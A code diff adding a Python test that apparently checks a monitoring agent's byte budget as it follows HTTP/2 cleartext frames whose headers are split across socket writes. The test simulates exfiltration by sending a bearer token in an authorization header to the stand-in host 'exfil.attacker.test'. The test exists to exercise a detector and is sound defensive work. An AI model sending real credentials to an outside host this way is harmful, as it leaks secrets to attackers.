@@ -407,6 +407,31 @@ def test_budget_follows_h2c_frames_across_writes_cut_anywhere():
     assert sent < (64 << 10) + 8192, sent
 
 
+def test_budget_follows_h2c_frame_headers_cut_by_a_write():
+    """A frame header cut by a write's end is completed by the next write: the frames stay
+    followed past a DATA frame header cut that way, and a HEADERS frame whose header starts
+    at the end of one write and ends in the next is copied whole, its first bytes included."""
+    def send(port, token):
+        s = socket.create_connection(("127.0.0.1", port))
+        authority = hpack_literal(b":authority", b"exfil.attacker.test")
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        s.sendall(h2_frame(1, 4, 1, authority))
+        data = h2_frame(0, 0, 1, b"u" * 16384)
+        for _ in range(30):
+            s.sendall(data)
+        s.sendall(data + data[:5])	# a DATA frame header cut after 5 bytes
+        s.sendall(data[5:])
+        request = h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
+                           hpack_literal(b"authorization", b"token " + token.encode()))
+        s.sendall(data + request[:4])	# the HEADERS frame's header cut after 4 bytes
+        s.sendall(request[4:] + h2_frame(0, 1, 3, b"v" * 100))
+        time.sleep(0.2)
+        s.close()
+    agent = one_token_alert(send, "--payload-budget", "64K")
+    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    assert sent < (64 << 10) + 8192, sent
+
+
 def test_budget_follows_more_h2c_frames_in_one_write_than_a_guess_would_look_at():
     """Past the budget, one write of forty small DATA frames then a HEADERS frame: found by
     following the frames, however many come before it in the write."""
